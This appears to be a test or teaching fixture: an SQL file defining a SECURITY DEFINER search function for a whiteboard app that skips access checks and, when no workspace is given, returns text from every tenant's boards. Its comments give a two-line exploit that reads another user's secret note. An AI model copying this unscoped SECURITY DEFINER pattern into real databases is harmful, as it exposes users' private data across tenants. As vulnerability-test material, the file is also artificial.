-- The search runs with its owner's rights and without a workspace it looks through all of them.
-- about: search_elements, board_elements
-- as: hf_whiteboards_app
-- exploit: SET request.jwt.claims = '{"sub":"a1000000-0000-4000-8000-000000000001"}';
-- exploit: SELECT * FROM search_elements('note');
-- shows: Road-secret note
-- Finds text on all boards; the workspace narrows the search when the user picked one.
CREATE FUNCTION search_elements(q text, ws uuid DEFAULT NULL) RETURNS TABLE (board_id uuid, hit text)
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = public, pg_temp AS $$
  SELECT e.board_id, e.props ->> 'text' FROM board_elements e
  WHERE e.props ->> 'text' ILIKE '%' || q || '%' AND (ws IS NULL OR e.workspace_id = ws)
$$;
